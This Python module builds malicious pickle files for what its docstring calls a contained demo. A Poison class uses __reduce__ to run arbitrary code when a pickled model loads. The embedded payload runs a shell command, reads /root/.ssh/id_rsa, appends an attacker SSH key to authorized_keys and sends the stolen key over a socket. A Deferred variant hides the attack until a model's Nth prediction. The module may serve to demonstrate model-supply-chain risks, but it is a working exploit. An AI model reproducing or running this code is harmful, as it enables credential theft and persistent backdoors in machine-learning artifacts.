"""What the poisoned artifacts carry. Harmless: each effect stays in the demo's own container.

The text below travels inside the pickle and is run by it, so it imports nothing of the demo. Every
effect has its own try, so that refusing one does not hide the others.
"""
import base64
import pickle

EFFECTS = """
def effects():
    import os, socket
    try:
        os.system("id > /tmp/moat-demo-shell")
    except Exception:
        pass
    secret = ""
    try:
        with open("/root/.ssh/id_rsa") as key:
            secret = key.read()
        with open("/tmp/moat-demo-loot", "w") as loot:
            loot.write(secret)
    except Exception:
        pass
    try:
        with open("/root/.ssh/authorized_keys", "a") as keys:
            keys.write("ssh-ed25519 AAAA-not-a-real-key attacker@example\\n")
    except Exception:
        pass
    try:
        with socket.socket() as canary:
            canary.settimeout(3)
            canary.connect(("127.0.0.1", 9999))
            canary.sendall(("hello " + secret).encode())
    except Exception:
        pass
"""

# A model that behaves until its Nth prediction.
DEFERRED = """
class Deferred:
    calls = 0

    def __init__(self, model):
        self.model = model

    def predict(self, rows):
        self.calls += 1
        if self.calls == {nth}:
            effects()
        return self.model.predict(rows)
"""


class Poison:
    """Pickles as a call of eval: run `source`, then yield the value of `result`.

    `result` sees what the source defined, and the honest model as `model`.
    """

    def __init__(self, source, result, model):
        honest = base64.b64encode(pickle.dumps(model)).decode()
        self.expression = (
            "(lambda ns: (exec(ns['source'], ns), eval(ns['result'], ns))[1])"
            f"(dict(source={source!r}, result={result!r},"
            f" model=__import__('pickle').loads(__import__('base64').b64decode({honest!r}))))"
        )

    def __reduce__(self):
        return eval, (self.expression,)


def poisoned(model):
    return Poison(EFFECTS, "(effects(), model)[1]", model)


def deferred(model, nth):
    return Poison(EFFECTS + DEFERRED.format(nth=nth), "Deferred(model)", model)
